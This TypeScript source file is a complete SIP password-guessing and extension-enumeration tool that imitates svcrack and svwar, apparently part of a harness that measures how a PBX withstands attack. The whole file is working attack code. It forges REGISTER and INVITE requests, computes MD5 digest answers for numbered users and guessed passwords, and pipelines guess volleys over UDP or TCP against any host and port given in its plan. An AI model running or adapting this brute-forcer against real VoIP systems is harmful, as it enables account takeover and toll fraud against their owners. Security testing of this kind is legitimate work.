import { createHash, randomBytes } from "node:crypto";
import { createSocket } from "node:dgram";
import { connect, isIPv6 } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import type { AttackPlan, AttackReport } from "./attacker.ts";

/**
 * A SIP guesser of our own: does what svcrack, svwar and svmap do, and what they cannot (TCP, pipelining, any spelling
 * of a method, a slow hand). Run by `attacker.ts` as a program of its own, so that it can live in a network namespace.
 * Reads its plan from the first argument and prints its report, both JSON. Needs nothing but Node.
 */

const plan = JSON.parse(process.argv[2] ?? "") as AttackPlan;
const begun = performance.now();
const report: Mutable<AttackReport> = {
  ...{ sent: 0, guesses: 0, answers: 0, answered: 0, guessesAnswered: 0 },
  ...{ statuses: {}, firstAnswerMs: null, lastAnswerMs: null, lastGuessAnswerMs: null, error: null },
};
type Mutable<T> = { -readonly [K in keyof T]: T[K] };

const seen = new Set<string>();
const target = isIPv6(plan.host) ? `[${plan.host}]` : plan.host;
const uri = (to: string) => (to === "" ? `sip:${target}:${plan.port}` : `sip:${to}@${target}:${plan.port}`);
const user = (n: number) => plan.user.replaceAll("{n}", String(n));
const md5 = (text: string) => createHash("md5").update(text).digest("hex");

interface Wire {
  send(text: string): void;
  readonly from: string;
  /** Resolves when more may be sent. */
  ready(): Promise<unknown>;
  close(): void;
}

function request(wire: Wire, n: number, callId: string, cseq: number, more: readonly string[], method = plan.method) {
  const invite = plan.method.toUpperCase() === "INVITE" && method !== "ACK";
  const body = invite
    ? `v=0\r\no=- 1 1 IN IP4 ${plan.host}\r\ns=-\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=audio 9 RTP/AVP 0\r\n`
    : "";
  const to = plan.to ?? "";
  return [
    `${method} ${uri(to)} SIP/2.0`,
    `Via: SIP/2.0/${plan.transport.toUpperCase()} ${wire.from};branch=z9hG4bK${callId}${cseq};rport${plan.viaParameters ?? ""}`,
    `From: <sip:${user(n)}@${target}>;tag=${callId.slice(0, 8)}`,
    `To: <sip:${to === "" ? user(n) : to}@${target}>`,
    `Call-ID: ${callId}`,
    `CSeq: ${cseq} ${method}`,
    `Contact: <sip:${user(n).replace(/[^a-z0-9-]/gi, "")}@${wire.from}>`,
    "Max-Forwards: 70",
    ...(plan.method.toUpperCase() === "SUBSCRIBE" ? ["Event: presence", "Expires: 60"] : []),
    ...(plan.headers ?? []),
    ...more,
    ...(invite ? ["Content-Type: application/sdp"] : []),
    `Content-Length: ${body.length}`,
    "",
    body,
  ].join("\r\n");
}

function digest(n: number, realm: string, nonce: string, header: string): string {
  const name = plan.digestUser ?? user(n);
  const password = (plan.password ?? "wrong-{n}").replaceAll("{n}", String(n));
  const a2 = md5(`${plan.method}:${uri(plan.to ?? "")}`);
  const response = md5(`${md5(`${name}:${realm}:${password}`)}:${nonce}:${a2}`);
  return `${header}: Digest username="${name}", realm="${realm}", nonce="${nonce}", uri="${uri(plan.to ?? "")}", response="${response}", algorithm=MD5`;
}

function send(wire: Wire, text: string, guess: boolean): void {
  report.sent++;
  if (guess) report.guesses++;
  wire.send(text);
}

/** One message of the target. */
function heard(wire: Wire, text: string): void {
  const status = /^SIP\/2\.0 (\d{3})/.exec(text)?.[1];
  if (status === undefined) return;
  const atMs = performance.now() - begun;
  report.answers++;
  report.statuses[status] = (report.statuses[status] ?? 0) + 1;
  report.firstAnswerMs ??= atMs;
  report.lastAnswerMs = atMs;
  const callId = /^Call-ID: *(\S+)/im.exec(text)?.[1] ?? "";
  const cseq = Number(/^CSeq: *(\d+)/im.exec(text)?.[1] ?? 0);
  const n = Number.parseInt(callId.slice(8), 10);
  if (!Number.isInteger(n) || Number(status) < 200) return;
  const to = /^To: *.*;tag=(\S+)/im.exec(text)?.[1];
  if (plan.method.toUpperCase() === "INVITE") {
    const ack = request(wire, n, callId, cseq, [], "ACK");
    wire.send(to === undefined ? ack : ack.replace(/^To: .*$/m, (line) => `${line.trim()};tag=${to}`));
  }
  if (seen.has(`${callId} ${cseq}`)) return;
  seen.add(`${callId} ${cseq}`);
  report.answered++;
  if (cseq > 1 || plan.madeUpNonce !== undefined) {
    report.guessesAnswered++;
    report.lastGuessAnswerMs = atMs;
  }
  if (cseq > 1 || plan.answer !== true) judged();
  const field = (name: string) => new RegExp(`${name}="([^"]*)"`).exec(text)?.[1];
  const nonce = field("nonce");
  if (plan.volley !== undefined && nonce !== undefined && cseq === 1) {
    volley.push(short(wire, n, callId, 2, { realm: field("realm") ?? "", nonce }));
    if (volley.length < plan.volley.size) return;
    report.sent += volley.length;
    report.guesses += volley.length;
    return wire.send(volley.join(""));
  }
  if (cseq > 1 || nonce === undefined || plan.answer !== true) return;
  const header = status === "407" ? "Proxy-Authorization" : "Authorization";
  send(wire, request(wire, n, callId, 2, [digest(n, field("realm") ?? "", nonce, header)]), true);
}

/** Guesses that wait until there are enough of them. */
const volley: string[] = [];

/** A REGISTER in as few bytes as it can have. Guesses are wrong but for the volley's last one. */
function short(
  wire: Wire,
  n: number,
  callId: string,
  cseq: number,
  to?: { readonly realm: string; readonly nonce: string },
) {
  const name = user(n);
  const password = plan.volley?.size === n + 1 ? plan.volley.password : `wrong-${n}`;
  const answer = to && md5(`${md5(`${name}:${to.realm}:${password}`)}:${to.nonce}:${md5("REGISTER:sip:a")}`);
  return [
    "REGISTER sip:a SIP/2.0",
    `v:SIP/2.0/TCP ${wire.from}`,
    `f:<sip:${name}@a>;tag=1`,
    `t:<sip:${name}@a>`,
    `m:<sip:${wire.from}>`,
    `i:${callId}`,
    `CSeq:${cseq} REGISTER`,
    ...(to === undefined
      ? []
      : [
          `Authorization:Digest username="${name}",realm="${to.realm}",nonce="${to.nonce}",uri="sip:a",response="${answer}"`,
        ]),
    "l:0\r\n\r\n",
  ].join("\r\n");
}

/** A Call-ID that tells, when it comes back, which request it was. */
const callIdOf = (n: number) => `${randomBytes(4).toString("hex")}${n}`;

function text(wire: Wire, n: number): string {
  if (plan.raw !== undefined) return plan.raw.replaceAll("{n}", String(n));
  const nonce = plan.madeUpNonce?.replaceAll("{n}", String(n));
  const made = nonce === undefined ? [] : [digest(n, plan.realm ?? "PBX", nonce, "Authorization")];
  return plan.volley === undefined ? request(wire, n, callIdOf(n), 1, made) : short(wire, n, callIdOf(n), 1);
}

async function udp(): Promise<Wire> {
  const socket = createSocket({ type: isIPv6(plan.host) ? "udp6" : "udp4", recvBufferSize: 4_000_000 });
  await new Promise<void>((done, failed) => {
    socket.once("error", failed);
    socket.bind(plan.localPort ?? 0, plan.localAddress, done);
  });
  socket.on("error", () => undefined);
  let waiting = 0;
  const { port } = socket.address();
  const wire: Wire = {
    from: `${plan.localAddress ?? "127.0.0.1"}:${port}`,
    send: (message) => {
      waiting++;
      socket.send(message, plan.port, plan.host, () => waiting--);
    },
    ready: async () => {
      do await new Promise(setImmediate);
      while (waiting > 500);
    },
    close: () => socket.close(),
  };
  socket.on("message", (data) => heard(wire, data.toString("latin1")));
  return wire;
}

async function tcp(): Promise<Wire> {
  const socket = connect({
    host: plan.host,
    port: plan.port,
    ...(plan.localAddress && { localAddress: plan.localAddress }),
  });
  await new Promise<void>((done, failed) => {
    // Destroyed, or the kernel would go on trying for two minutes and keep us alive.
    socket.setTimeout(plan.seconds * 1000, () => socket.destroy(new Error("no connection")));
    socket.once("error", failed);
    socket.once("connect", done);
  });
  socket.setTimeout(0).on("error", (error) => (report.error ??= error.message));
  let pending = "";
  const wire: Wire = {
    from: `${plan.localAddress ?? "127.0.0.1"}:${socket.localPort}`,
    send: (message) => socket.destroyed || socket.write(message),
    ready: async () => {
      await new Promise(setImmediate);
      // A target that no longer reads must not keep us past our time.
      while (socket.writableLength > 100_000 && !socket.destroyed && !over()) await delay(1);
    },
    close: () => socket.destroy(),
  };
  // chan_sip's answers have no body: one ends where its head does.
  socket.setEncoding("latin1").on("data", (data: string) => {
    const messages = (pending + data).split("\r\n\r\n");
    pending = messages.pop() ?? "";
    for (const message of messages) heard(wire, message);
  });
  return wire;
}

/** What has come back of the request that is waited for. */
let judged: () => void = () => undefined;
/** How long an answer is waited for before the next guess, ms. */
const PATIENCE_MS = 50;

const over = () => performance.now() - begun > plan.seconds * 1000;

async function attack(wire: Wire): Promise<void> {
  const batch = plan.inTurn === true ? 1 : (plan.pipeline ?? (plan.perSecond === undefined ? 32 : 1));
  for (let n = 0; n < (plan.count ?? Number.POSITIVE_INFINITY) && !over(); ) {
    const batched: string[] = [];
    for (let at = 0; at < batch && n < (plan.count ?? Number.POSITIVE_INFINITY); at++) batched.push(text(wire, n++));
    report.sent += batched.length;
    const answered = new Promise<void>((resolve) => {
      judged = resolve;
    });
    if (plan.madeUpNonce !== undefined) report.guesses += batched.length;
    if (plan.transport === "tcp") wire.send(batched.join(""));
    else for (const each of batched) wire.send(each);
    await wire.ready();
    if (plan.inTurn === true) await Promise.race([answered, delay(PATIENCE_MS)]);
    if (plan.perSecond === undefined) continue;
    const due = begun + (n / plan.perSecond) * 1000;
    await delay(Math.max(0, Math.min(due, begun + plan.seconds * 1000) - performance.now()));
  }
  await delay(plan.lingerMs ?? 500);
}

try {
  const wire = plan.transport === "udp" ? await udp() : await tcp();
  try {
    await attack(wire);
  } finally {
    wire.close();
  }
} catch (error) {
  report.error = error instanceof Error ? error.message : String(error);
}
process.stdout.write(`${JSON.stringify(report)}\n`);
